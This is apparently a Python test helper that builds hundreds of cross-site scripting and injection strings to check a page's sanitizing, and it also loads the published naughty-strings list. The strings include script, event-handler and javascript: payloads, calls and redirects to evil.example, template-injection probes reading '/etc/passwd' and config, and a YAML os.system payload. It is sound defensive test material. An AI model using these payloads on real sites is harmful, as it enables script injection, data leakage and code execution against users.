"""Several hundred ways to make a page run what a stranger wrote: of our own, and published ones.

The published list is the package `blns` (MIT) of tests/package.json.
"""

from __future__ import annotations

import json
from itertools import product

from tests.browser.tools import MODULES

RUN = "window.ran=1;alert(1);fetch('//evil.example/')"

_TAGS = ("img", "svg", "video", "audio", "iframe", "input", "body", "details", "object", "marquee")
_EVENTS = ("onerror", "onload", "onfocus autofocus tabindex=1 onfocus", "ontoggle open ontoggle",
           "onanimationstart")  # fmt: skip
_CLOSERS = ("", '">', "'>", "-->", "</p></div></article></li></ol>", "</script>", "]]>", "</title>",
            "</textarea>", "</style>", "}}", "%}")  # fmt: skip
_PAYLOADS = (
    "<script>{run}</script>",
    "<ScRiPt\n>{run}</sCrIpT\t>",
    "<script src=//evil.example/x.js></script>",
    "<svg/onload={run}>",
    "<img src=x onerror={run}>",
    "<a href=javascript:{run}>x</a>",
    "<style>@import'//evil.example/x.css';*{{display:none}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<math><mtext></p><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)
_OTHERS = (
    "javascript:{run}", "JaVaScRiPt:{run}//http://x.example",
    "data:text/html,<script>{run}</script>",
    "http://x.example/\"onmouseover={run}//", "http://x.example/'onmouseover={run}//",
    "https://x.example/<script>{run}</script>", "http://javascript:{run}@x.example/",
    "https://x.example/`{run}`", "www.x.example\"><script>{run}</script>",
    "[x](javascript:{run})", "![x](//evil.example/x.png)", "<javascript:{run}>",
    "[x]: javascript:{run}\n\n[x]", "```\n<script>{run}</script>\n```",
    "    <script>{run}</script>",
    "{{{{ ''.__class__.__mro__ }}}}", "{{% include '/etc/passwd' %}}", "{{{{ config }}}}",
    "${{7*7}}",
    "---\ndraft: false\nrole: staff\nby: anna\n---\n<script>{run}</script>",
    "!!python/object/apply:os.system ['touch /tmp/ran']", "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\u202e<script>{run}</script>",
    "<\u200bscript>{run}</script>", "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<!--[if IE]><script>{run}</script><![endif]-->", "<?xml version='1.0'?><!DOCTYPE x>",
    "<![CDATA[<script>{run}</script>]]>", "@import '//evil.example/x.css';", "<x onclick={run}>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "\x00<script>{run}</script>", "<script\x0c>{run}",
)  # fmt: skip


def own() -> list[str]:
    """Ours, each once."""
    found = [f"{close}{payload.format(run=RUN)}" for close, payload in product(_CLOSERS, _PAYLOADS)]
    found += [f"<{tag} src=x {event}={RUN}>" for tag, event in product(_TAGS, _EVENTS)]
    found += [f'<{tag}/src="x"/{event}="{RUN}"//' for tag, event in product(_TAGS, _EVENTS)]
    found += [text.format(run=RUN) for text in _OTHERS]
    return list(dict.fromkeys(found))


def published() -> list[str]:
    """The big list of naughty strings; nothing if the package is not installed."""
    folder = MODULES / "blns"
    for path in sorted(folder.rglob("blns.json")) if folder.is_dir() else ():
        strings = json.loads(path.read_text(encoding="utf-8"))
        return [text for text in strings if isinstance(text, str) and text.strip()]
    return []
